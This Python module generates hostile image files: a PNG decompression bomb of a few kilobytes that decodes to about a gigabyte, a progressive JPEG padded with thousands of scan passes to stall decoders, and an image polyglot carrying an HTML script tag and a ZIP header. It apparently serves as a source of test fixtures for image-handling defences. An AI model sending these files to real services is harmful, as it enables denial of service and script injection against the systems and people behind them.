"""Pictures that are made to do harm: small files that cost their reader memory, time or its wits."""

import io
import struct
import zlib
from typing import Final

import numpy as np
from PIL import Image

_START_OF_SCAN: Final = b"\xff\xda"
_END_OF_IMAGE: Final = b"\xff\xd9"


def make_pixel_bomb(width: int = 20_000, height: int = 20_000) -> bytes:
    """A PNG of some kB whose pixels would fill a gigabyte."""
    row = b"\x00" + bytes(width * 3)
    compressor = zlib.compressobj(9)
    pixels = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", pixels) + _chunk(b"IEND", b"")


def make_time_bomb(width: int = 4096, height: int = 3900, passes: int = 2_000) -> bytes:
    """A progressive JPEG within all limits of size that asks for thousands of passes over its pixels."""
    buffer = io.BytesIO()
    Image.fromarray(np.zeros((height, width), np.uint8)).save(buffer, "JPEG", progressive=True, quality=50)
    data = buffer.getvalue()
    last_scan = data.rindex(_START_OF_SCAN)
    end = data.rindex(_END_OF_IMAGE)
    return data[:end] + data[last_scan:end] * passes + data[end:]


def make_polyglot(picture: bytes) -> bytes:
    """A picture with a web page and the start of an archive behind it."""
    return picture + b"<html><script>alert(1)</script></html>PK\x03\x04" + bytes(64)


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
